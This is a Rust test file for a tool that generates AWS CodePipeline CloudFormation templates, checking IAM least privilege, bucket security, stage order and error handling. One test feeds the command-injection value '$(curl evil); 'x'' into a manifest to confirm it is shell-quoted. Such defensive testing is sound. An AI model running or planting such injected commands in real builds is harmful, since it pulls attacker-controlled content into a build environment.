//! Pipelines as CodePipeline runs them.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use landfall_iam::StateBucket;
use landfall_manifest::SourceFile;
use landfall_model::app::App;
use landfall_stack::delivery::{Ask, Exported, Undeliverable, codepipeline};
use serde_json::Value;

const MANIFEST: &str = include_str!("manifests/delivery.yml");

fn app() -> App {
    let loaded = landfall_manifest::load(&SourceFile::new("landfall.yml", MANIFEST), &|_| None);
    let mut app = loaded.unwrap_or_else(|found| panic!("{found:#?}")).app;
    app.pipelines = serde_json::from_str(include_str!("manifests/pipelines.json")).unwrap();
    app
}

fn ask(app: &App) -> Ask<'_> {
    Ask {
        app,
        pipelines: &[],
        account: None,
        region: None,
        state: None,
        url: Some("https://example.com/landfall.tar.gz"),
        sha256: None,
    }
}

fn made(app: &App) -> Exported {
    codepipeline(&ask(app)).unwrap()
}

fn json(exported: &Exported) -> Value {
    serde_json::from_str(&exported.template.json()).unwrap()
}

#[test]
fn both_pipelines_of_system_c() {
    let app = app();
    let exported = made(&app);
    insta::assert_snapshot!("pipelines", exported.template.yaml());
    insta::assert_snapshot!("notes", exported.notes.join("\n"));
    assert_eq!(exported, made(&app));
}

/// Stage → names of its actions, those side by side in one text.
fn stages(template: &Value, pipeline: &str) -> Vec<(String, Vec<String>)> {
    let stages = template["Resources"][pipeline]["Properties"]["Stages"].as_array().unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let of = |stage: &Value| {
        let mut rows: Vec<String> = Vec::new();
        for action in stage["Actions"].as_array().unwrap() {
            let order = usize::try_from(action["RunOrder"].as_u64().unwrap()).unwrap();
            match rows.get_mut(order - 1) {
                Some(row) => *row += &format!(" + {}", text(&action["Name"])),
                None => rows.push(text(&action["Name"])),
            }
        }
        (text(&stage["Name"]), rows)
    };
    stages.iter().map(of).collect()
}

#[test]
fn the_order_is_that_of_the_manifest() {
    let template = json(&made(&app()));
    let row = |name: &str, actions: &[&str]| (name.to_owned(), actions.iter().map(|one| (*one).to_owned()).collect());
    assert_eq!(
        stages(&template, "DevPipeline"),
        [
            row("Source", &["Source"]),
            row("Build", &["Images + Synth"]),
            row("Dev", &["DeployDev", "VerifyDev", "PublishDev"])
        ]
    );
    assert_eq!(
        stages(&template, "ReleasePipeline"),
        [
            row("Source", &["Source"]),
            row("Release", &["Release"]),
            row("Staging", &["DeployStaging", "VerifyStaging"]),
            row("Prod", &["Approve", "DeployProd", "VerifyProd"])
        ]
    );
    let approve = &template["Resources"]["ReleasePipeline"]["Properties"]["Stages"][3]["Actions"][0];
    assert_eq!(approve["Configuration"]["NotificationArn"]["Ref"], "ApprovalTopic");
    assert_eq!(approve["Configuration"]["ExternalEntityLink"], "https://staging.shop.example.com/");
    assert_eq!(approve["TimeoutInMinutes"], 4320);
}

/// Every role's statements, by its logical id.
fn rights(template: &Value) -> Vec<(String, Vec<Value>)> {
    let roles = template["Resources"].as_object().unwrap().iter().filter(|(_, one)| one["Type"] == "AWS::IAM::Role");
    let of = |(id, role): (&String, &Value)| {
        assert!(role["Properties"]["ManagedPolicyArns"].is_null(), "{id}");
        let policies = role["Properties"]["Policies"].as_array().unwrap();
        let all = policies.iter().flat_map(|one| one["PolicyDocument"]["Statement"].as_array().unwrap().clone());
        (id.clone(), all.collect())
    };
    roles.map(of).collect()
}

#[test]
fn no_role_may_everything() {
    let template = json(&made(&app()));
    let roles = rights(&template);
    assert_eq!(roles.len(), 12, "{:?}", roles.iter().map(|(id, _)| id).collect::<Vec<_>>());
    for (id, statements) in &roles {
        for statement in statements {
            for action in statement["Action"].as_array().unwrap() {
                assert!(!action.as_str().unwrap().contains('*'), "{id}: {action}");
            }
            let all = statement["Resource"].as_array().unwrap().contains(&Value::from("*"));
            let reads = statement["Action"].as_array().unwrap().iter().all(|action| {
                let name = action.as_str().unwrap().split(':').nth(1).unwrap();
                name.starts_with("Describe") || name.starts_with("List") || name.starts_with("Get")
            });
            assert!(!all || reads || !statement["Condition"].is_null(), "{id}: {statement}");
        }
        let text = serde_json::to_string(statements).unwrap();
        let deploys = id.contains("Deploy");
        assert_eq!(text.contains("cloudformation:ExecuteChangeSet"), deploys, "{id}");
        assert_eq!(text.contains("ecr:PutImage"), id == "DevImagesRole", "{id}");
        assert_eq!(text.contains("ssm:PutParameter"), id.contains("Publish"), "{id}");
        assert_eq!(text.contains("iam:CreateRole"), deploys, "{id}");
        assert_eq!(text.contains("ecs:RunTask"), id == "DevDeployDevRole", "only there a task is run: {id}");
        assert_eq!(text.contains("sns:Publish"), id == "ReleasePipelineRole", "{id}");
        // What a stack is made of, CloudFormation makes.
        for statement in statements.iter().filter(|one| one["Sid"].as_str().unwrap().starts_with("Make")) {
            let via = &statement["Condition"]["ForAnyValue:StringEquals"]["aws:CalledVia"];
            assert!(
                via == "cloudformation.amazonaws.com" || statement["Sid"] == "MakeServiceLinkedRoles",
                "{id}: {statement}"
            );
        }
    }
    // No environment's job reaches another's stack.
    let prod = serde_json::to_string(&roles.iter().find(|(id, _)| id == "ReleaseDeployProdRole").unwrap().1).unwrap();
    assert!(prod.contains("stack/shop-prod/*") && !prod.contains("shop-staging") && !prod.contains("shop-dev"));
}

/// All that a role may, by action.
fn actions(template: &Value, role: &str) -> Vec<String> {
    let statements = rights(template).into_iter().find(|(id, _)| id == role).unwrap_or_else(|| panic!("no {role}")).1;
    let all = statements.iter().flat_map(|one| one["Action"].as_array().unwrap().clone());
    all.map(|action| action.as_str().unwrap().to_owned()).collect()
}

fn statement(template: &Value, role: &str, sid: &str) -> Option<Value> {
    let statements = rights(template).into_iter().find(|(id, _)| id == role).unwrap_or_else(|| panic!("no {role}")).1;
    statements.into_iter().find(|one| one["Sid"] == sid)
}

#[test]
fn who_verifies_a_stack_without_a_name_may_look_for_its_load_balancer() {
    let template = json(&made(&app()));
    for call in ["DescribeListeners", "DescribeLoadBalancers", "DescribeTargetGroups"] {
        let call = format!("elasticloadbalancing:{call}");
        assert!(actions(&template, "DevVerifyDevRole").contains(&call), "{call}");
        assert!(!actions(&template, "ReleaseVerifyProdRole").contains(&call), "prod has a name: {call}");
    }
}

#[test]
fn who_deploys_a_release_may_read_all_that_it_is_of() {
    let template = json(&made(&app()));
    for role in ["DevDeployDevRole", "ReleaseDeployProdRole"] {
        let read = statement(&template, role, "ReadReleases").unwrap();
        let wanted = serde_json::json!(["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer", "ecr:ListImages"]);
        assert_eq!(read["Action"], wanted, "{role}");
    }
}

/// A stack of instances gives their role a policy of AWS's.
#[test]
fn policies_of_the_template_are_attached_and_no_others() {
    let loaded = SourceFile::new("landfall.yml", include_str!("manifests/instances.yml"));
    let mut instances = landfall_manifest::load(&loaded, &|_| None).unwrap_or_else(|found| panic!("{found:#?}")).app;
    let delivered = app();
    instances.repositories = delivered.repositories.clone();
    let mut pipeline = delivered.pipelines["dev"].clone();
    pipeline.stages[0].environment = "prod".to_owned();
    pipeline.stages[0].run.retain(|work| matches!(work, landfall_model::pipeline::Work::Deploy {}));
    instances.pipelines = [("dev".to_owned(), pipeline)].into();
    let exported = made(&instances);
    assert!(exported.notes.iter().any(|note| note.contains("landfall release create")), "{:?}", exported.notes);
    let template = json(&exported);
    let attach = statement(&template, "DevDeployProdRole", "AttachPolicies").unwrap();
    assert_eq!(attach["Action"], serde_json::json!(["iam:AttachRolePolicy", "iam:DetachRolePolicy"]));
    let policy = &attach["Condition"]["ArnEquals"]["iam:PolicyARN"];
    assert!(policy.to_string().contains("AmazonEC2ContainerServiceforEC2Role"), "{attach}");
    assert_eq!(attach["Condition"]["ForAnyValue:StringEquals"]["aws:CalledVia"], "cloudformation.amazonaws.com");
    assert!(attach["Resource"].to_string().contains("role/shop-prod-*"), "{attach}");
    for list in ["iam:ListAttachedRolePolicies", "iam:ListRolePolicies"] {
        assert!(actions(&template, "DevDeployProdRole").iter().any(|own| own == list), "{list}");
    }
    assert_eq!(statement(&json(&made(&app())), "DevDeployDevRole", "AttachPolicies"), None);
}

/// As `landfall push` and `deploy --release` take it: the role of the places in a registry's account, where all have the same.
#[test]
fn registries_are_asked_with_the_role_of_their_account() {
    let role = |arn: &str| Some(landfall_model::aws::AssumeRole { arn: arn.to_owned(), external_id: None });
    let same = "arn:aws:iam::123456789012:role/landfall";
    let mut app = app();
    app.aws.get_mut("dev").unwrap().role = role(same);
    // The others have other credentials: nobody knows whose are meant.
    let template = json(&made(&app));
    assert!(actions(&template, "DevImagesRole").contains(&"ecr:PutImage".to_owned()));
    assert!(actions(&template, "DevDeployDevRole").contains(&"ecr:ListImages".to_owned()));
    app.aws.values_mut().for_each(|place| place.role = role(same));
    let template = json(&made(&app));
    let take = statement(&template, "DevImagesRole", "TakeRolesOfRegistries").unwrap();
    assert_eq!(
        (&take["Action"], &take["Resource"]),
        (&serde_json::json!(["sts:AssumeRole"]), &serde_json::json!([same]))
    );
    for role in ["DevImagesRole", "DevDeployDevRole", "ReleaseDeployProdRole"] {
        let own = actions(&template, role);
        assert!(!own.iter().any(|action| action.starts_with("ecr:")), "{role}: {own:?}");
        assert_eq!(own.iter().filter(|action| *action == "sts:AssumeRole").count(), 1, "{role}");
    }
}

#[test]
fn parameters_get_the_tag_that_the_image_was_pushed_with() {
    let of = |tag: &str| {
        let text = MANIFEST.replace("shop-app:{commit}", &format!("shop-app:{tag}"));
        let mut app = landfall_manifest::load(&SourceFile::new("landfall.yml", &text), &|_| None).unwrap().app;
        app.pipelines = self::app().pipelines;
        codepipeline(&ask(&app)).map(|made| {
            let template = json(&made);
            let source = &template["Resources"]["DevPublishDevProject"]["Properties"]["Source"]["BuildSpec"];
            source.as_str().unwrap().to_owned()
        })
    };
    let all = of("{project}-{branch}-v1.{short_commit}").unwrap();
    let value = r#"--value shop-main-v1.\"${LANDFALL_COMMIT:0:7}\""#;
    assert_eq!(all.matches(value).count(), 2, "{all}");
    // What comes after takes the commit.
    assert!(all.contains(r#"--name /landfall/shop/dev/commit --value \"$LANDFALL_COMMIT\""#), "{all}");
    assert!(of("{commit}").unwrap().contains(r#"--name shop-imagetag --value \"$LANDFALL_COMMIT\""#));
}

#[test]
fn buckets_are_private_encrypted_and_kept() {
    let template = json(&made(&app()));
    let buckets = template["Resources"].as_object().unwrap().iter().filter(|(_, one)| one["Type"] == "AWS::S3::Bucket");
    let mut count = 0;
    for (id, bucket) in buckets {
        count += 1;
        let properties = &bucket["Properties"];
        assert_eq!(bucket["DeletionPolicy"], "Retain");
        for key in ["BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets"] {
            assert_eq!(properties["PublicAccessBlockConfiguration"][key], true, "{id}");
        }
        assert!(properties["BucketEncryption"].is_object(), "{id}");
        let policy = &template["Resources"][format!("{id}Policy")]["Properties"]["PolicyDocument"]["Statement"][0];
        assert_eq!(
            (policy["Effect"].as_str(), policy["Condition"]["Bool"]["aws:SecureTransport"].as_str()),
            (Some("Deny"), Some("false"))
        );
    }
    assert_eq!(count, 2);
    let app = app();
    let state = StateBucket { bucket: "acme-landfall".to_owned(), prefix: "shop".to_owned() };
    let given = json(&codepipeline(&Ask { state: Some(state), ..ask(&app) }).unwrap());
    assert!(given["Resources"]["StateBucket"].is_null());
    assert!(given.to_string().contains("arn:aws:s3:::acme-landfall/shop/*"));
}

#[test]
fn every_log_is_kept_for_a_while_and_no_longer() {
    let template = json(&made(&app()));
    let resources = template["Resources"].as_object().unwrap();
    let of = |kind: &str| resources.values().filter(|one| one["Type"] == kind).count();
    assert_eq!(of("AWS::Logs::LogGroup"), of("AWS::CodeBuild::Project"));
    for one in resources.values().filter(|one| one["Type"] == "AWS::Logs::LogGroup") {
        assert_eq!(one["Properties"]["RetentionInDays"], 30);
    }
}

#[test]
fn a_command_of_the_manifest_stays_one_word() {
    let mut app = app();
    let text = serde_json::to_string(&app.pipelines["dev"]).unwrap();
    assert!(text.contains("bin/migrate"));
    let text = text.replace("bin/migrate", "$(curl evil); 'x'");
    app.pipelines.insert("dev".to_owned(), serde_json::from_str(&text).unwrap());
    let template = json(&made(&app));
    let spec = template["Resources"]["DevDeployDevProject"]["Properties"]["Source"]["BuildSpec"].as_str().unwrap();
    assert!(spec.contains(r"-- '$(curl evil); '\\''x'\\'''"), "{spec}");
}

#[test]
fn what_cannot_be_is_said() {
    let fails = |change: fn(&mut App)| {
        let mut app = app();
        change(&mut app);
        codepipeline(&ask(&app)).unwrap_err()
    };
    assert_eq!(fails(|app| app.pipelines.clear()), Undeliverable::NoPipelines);
    assert_eq!(fails(|app| app.repositories.clear()), Undeliverable::Repositories("none".to_owned()));
    let branches = |branches: &[&str]| branches.iter().map(|&one| one.to_owned()).collect::<Vec<_>>();
    let globs = fails(|app| app.pipelines.get_mut("dev").unwrap().on.branches = vec!["release/*".to_owned()]);
    assert_eq!(globs, Undeliverable::Branches("dev".to_owned(), "`release/*`".to_owned()));
    assert_eq!(
        fails(|app| app.pipelines.get_mut("dev").unwrap().on.branches = Vec::new()),
        Undeliverable::Branches("dev".to_owned(), "no branch".to_owned())
    );
    assert_eq!(
        fails(|app| app.environments.get_mut("prod").unwrap().on = None),
        Undeliverable::Here("prod".to_owned())
    );
    let renamed = |from: &str, to: &str| {
        let mut app = app();
        let mut own = app.environments.remove(from).unwrap();
        own.name = to.to_owned();
        app.environments.insert(to.to_owned(), own);
        for stage in app.pipelines.values_mut().flat_map(|one| &mut one.stages).filter(|one| one.environment == from) {
            stage.environment = to.to_owned();
        }
        codepipeline(&ask(&app)).map(|_| ())
    };
    for (from, to, pipeline, stage) in [
        ("dev", "build", "dev", "Build"),
        ("dev", "source", "dev", "Source"),
        ("staging", "release", "release", "Release"),
    ] {
        assert_eq!(renamed(from, to), Err(Undeliverable::SameStage(pipeline.to_owned(), stage.to_owned())), "{to}");
    }
    let tag = fails(|app| {
        let containers = &mut app.services.get_mut("web").unwrap().containers;
        if let landfall_model::app::ImageSource::Await(wait) = &mut containers[0].image {
            wait.image = "r.example/shop:{day}".to_owned();
        }
    });
    assert_eq!(tag, Undeliverable::Tag("web".to_owned(), "{day}".to_owned()));
    let app = app();
    let only = branches(&["release"]);
    assert_eq!(
        codepipeline(&Ask { pipelines: &only, ..ask(&app) }),
        Err(Undeliverable::After("release".to_owned(), "dev".to_owned()))
    );
    let unknown = branches(&["nightly"]);
    assert_eq!(
        codepipeline(&Ask { pipelines: &unknown, ..ask(&app) }),
        Err(Undeliverable::NoPipeline("nightly".to_owned()))
    );
}
